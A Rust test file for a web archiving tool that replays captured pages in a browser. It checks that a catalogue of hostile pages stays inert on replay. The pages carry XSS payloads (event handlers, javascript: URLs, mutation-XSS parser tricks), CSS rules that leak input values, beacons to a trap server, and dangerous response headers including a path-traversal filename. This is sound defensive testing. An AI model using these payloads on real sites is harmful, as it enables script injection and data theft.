//! Pages that mean harm, captured and replayed in a real browser: nothing of them runs, and nobody is asked but the server.

use std::time::Duration;

use crate::support::browser::{Page, browser};
use crate::support::chaffinch::{Chaffinch, TempArchive};
use crate::support::replay::Served;
use crate::support::site::{Answer, Site};

/// What every script of these pages does: it shows that it ran, and calls the trap.
const RUN: &str = "document.title='ran';new Image().src='{trap}/hit';fetch('{trap}/hit')";

/// A name, a media type, and a page. `{run}` is the script above, `{trap}` a server that nobody may ask.
const PAGES: &[(&str, &str, &str)] = &[
    ("inline", "text/html", "<title>still</title><p>x<script>{run}</script><script type=module>{run}</script>"),
    (
        "external",
        "text/html",
        "<title>still</title><script src={trap}/x.js></script><script async src='{trap}/y.js'></script>",
    ),
    (
        "handlers",
        "text/html",
        "<title>still</title><body onload=\"{run}\"><img src=x onerror=\"{run}\"><svg onload=\"{run}\"></svg><input autofocus onfocus=\"{run}\"><details open ontoggle=\"{run}\">x</details>",
    ),
    (
        "addresses",
        "text/html",
        "<title>still</title><a id=go href=\"javascript:{run}\">go</a><iframe src=\"javascript:{run}\"></iframe><object data=\"javascript:{run}\"></object><embed src=\"{trap}/e\">",
    ),
    (
        "elsewhere",
        "text/html",
        "<title>still</title><meta http-equiv=refresh content='0;url={trap}/refresh'><base href='{trap}/'><img src=a.png><iframe src='{trap}/frame'></iframe><video src='{trap}/v' poster='{trap}/p' autoplay></video><link rel=stylesheet href='{trap}/s.css'>",
    ),
    (
        "ahead",
        "text/html",
        "<title>still</title><link rel=preconnect href='{trap}'><link rel=dns-prefetch href='{trap}'><link rel=prefetch href='{trap}/f'><link rel=preload as=image href='{trap}/l'><link rel=modulepreload href='{trap}/m.js'><link rel=manifest href='{trap}/w'><script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"{trap}/s\"]}]}</script><a ping='{trap}/ping' id=go href=/other>go</a>",
    ),
    (
        "styles",
        "text/html",
        "<title>still</title><style>@import '{trap}/i.css';@font-face{font-family:x;src:url({trap}/f)}body{background:u\\72l({trap}/b);font-family:x}input[value^=s]{background:url({trap}/s)}p{background:image-set('{trap}/set' 1x)}</style><p style=\"border-image:url({trap}/bi) 1\">x<input value=secret><svg><style>&#112;{background:&#117;rl({trap}/svg)}</style></svg>",
    ),
    (
        "frames",
        "text/html",
        "<title>still</title><iframe srcdoc=\"<script>parent.{run}</script><img src={trap}/doc>\"></iframe><frameset><frame src='{trap}/fs'></frameset>",
    ),
    (
        "forms",
        "text/html",
        "<title>still</title><form action='{trap}/form' method=post><input name=a value=b><button id=go formaction='{trap}/fa'>go</button></form>",
    ),
    (
        "mutations",
        "text/html",
        "<title>still</title><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\"></table></mtext></math><noscript><p title=\"</noscript><img src=x onerror={run}>\"></noscript><svg></p><style><a id=\"</style><img src={trap}/mx onerror={run}>\"></style></svg><template shadowrootmode=open><script>{run}</script><img src={trap}/shadow></template><xmp><script>{run}</script></xmp><textarea><img src={trap}/ta></textarea><plaintext><script>{run}</script>",
    ),
    (
        "drawing",
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><script>{run}</script><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{trap}/fo'></iframe></foreignObject><image xlink:href='{trap}/im'/><use href='{trap}/u#x'/><a href='#'><animate attributeName='href' values='{trap}/a'/></a></svg>",
    ),
    ("not-an-image", "image/png", "<title>still</title><script>{run}</script><img src={trap}/png>"),
    ("not-text", "text/plain", "<title>still</title><script>{run}</script><img src={trap}/txt>"),
    ("untyped", "application/octet-stream", "<title>still</title><script>{run}</script><img src={trap}/bin>"),
    ("two-types", "text/x, text/html", ODD),
    ("no-type-first", "image/x;, text/html; charset=utf-8", ODD),
    ("type-and-more", "text/html x", ODD),
    ("type-and-comment", "text/html(c)", ODD),
    ("stylesheet-xml", "text/xsl", ODD_XML),
    (
        "xhtml",
        "application/xhtml+xml",
        "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>still</title><script>{run}</script></head><body><img src='{trap}/xh'/></body></html>",
    ),
    (
        "xml",
        "text/xml",
        "<?xml-stylesheet href='{trap}/x.xsl' type='text/xsl'?><x><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script></x>",
    ),
];

/// What must not be shown as it is, whatever the server calls it.
const ODD: &str = "<title>still</title><link rel=preconnect href='{trap}'><script>{run}</script><img src={trap}/odd>";
const ODD_XML: &str = "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>still</title>\
    <link rel='preconnect' href='{trap}'/><script>{run}</script></head><body/></html>";

/// Fields of an answer that would make a browser do something.
fn armed(answer: Answer, trap: &str) -> Answer {
    answer
        .header("Set-Cookie", "stolen=1; Path=/")
        .header("Refresh", &format!("0;url={trap}/refresh"))
        .header("Link", &format!("<{trap}/preload>; rel=preload; as=script, <{trap}>; rel=preconnect"))
        .header("Clear-Site-Data", "\"*\"")
        .header("Access-Control-Allow-Origin", "*")
        .header("Content-Security-Policy", "default-src *; script-src * 'unsafe-inline'")
        .header("Content-Disposition", &format!("inline; filename=\"../../{}.html\"", "x".repeat(400)))
}

fn with(text: &str, trap: &str) -> String {
    text.replace("{run}", RUN).replace("{trap}", trap)
}

/// Long enough for whatever would happen at once. A page without scripts has no timers to wait by.
fn linger(page: &Page) {
    std::thread::sleep(Duration::from_millis(150));
    page.eval("1");
}

#[test]
fn nothing_of_a_hostile_capture_runs_or_reaches_the_live_web() {
    let Some(browser) = browser() else { return };
    let (site, trap, kept) = (Site::start(), Site::start(), TempArchive::new());
    let trap_url = trap.url("");
    let mut urls = Vec::new();
    for (name, media_type, text) in PAGES {
        let path = format!("/{name}");
        site.set(&path, armed(Answer::of(media_type, with(text, &trap_url)), &trap_url));
        urls.push(site.url(&path));
    }
    Chaffinch::local().archive(&kept).args(["archive", "--assets", "none"]).args(&urls).run();
    let (asked, served) = (site.requests().len(), Served::over(&kept));
    let before = trap.requests().len();
    let page = browser.page();
    for (url, (_, media_type, _)) in urls.iter().zip(PAGES) {
        for address in [format!("{}/2099mp_/{url}", served.captures), format!("{}/2099/{url}", served.interface)] {
            // What is offered as a file opens no page, and is no page to look at.
            if !page.opens(&address) {
                continue;
            }
            linger(&page);
            let title = page.text("document.title");
            assert_ne!(title, "ran", "{address}");
            if address.contains("mp_") {
                let left =
                    "document.querySelector('script, link[rel~=preconnect], base, [http-equiv=refresh]')?.outerHTML";
                assert_eq!(page.text(left), "", "{address}");
            }
            if *media_type == "text/html" && address.contains("mp_") {
                assert_eq!(title, "still", "{address} is shown");
            }
            let cookies = page.text("(() => { try { return document.cookie } catch { return '' } })()");
            assert_eq!(cookies, "", "{address}");
            if page.eval("!!document.querySelector('#go')") == true {
                page.click("#go");
                linger(&page);
            }
        }
        page.asked_only(&served.origins());
    }
    assert_eq!(trap.requests().len(), before, "{:?}", trap.requests().last());
    assert_eq!(site.requests().len(), asked, "nobody visits the live site");
}

#[test]
fn a_capture_has_an_origin_that_is_nobody_s_and_reads_no_other() {
    let Some(browser) = browser() else { return };
    let (site, kept) = (Site::start(), TempArchive::new());
    site.page("/a", "<title>a</title><p>secret of a").page("/b", "<title>b</title><p>b");
    Chaffinch::local().archive(&kept).args(["archive", &site.url("/a"), &site.url("/b")]).run().success();
    let served = Served::over(&kept);
    let page = browser.page();
    page.open(&format!("{}/2099mp_/{}", served.captures, site.url("/b")));
    assert_eq!(page.text("self.origin"), "null");
    for other in [format!("{}/2099mp_/{}", served.captures, site.url("/a")), served.at("/"), served.at("/api/status")] {
        let read = format!("fetch({other:?}).then((it) => it.text(), () => 'refused')");
        assert_eq!(page.text(&read), "refused", "{other}");
    }
    let storage = "(() => { try { localStorage.length; return 'open' } catch { return 'shut' } })()";
    assert_eq!(page.text(storage), "shut");
}

#[test]
fn the_same_page_does_harm_where_nobody_hinders_it() {
    let Some(browser) = browser() else { return };
    let (site, trap) = (Site::start(), Site::start());
    site.page("/inline", with(PAGES[0].2, &trap.url("")));
    let page = browser.page();
    page.open(&site.url("/inline")).wait_for("document.title === 'ran'");
    linger(&page);
    assert!(trap.hits("/hit") > 0, "the trap hears nothing: the other tests show nothing");
}
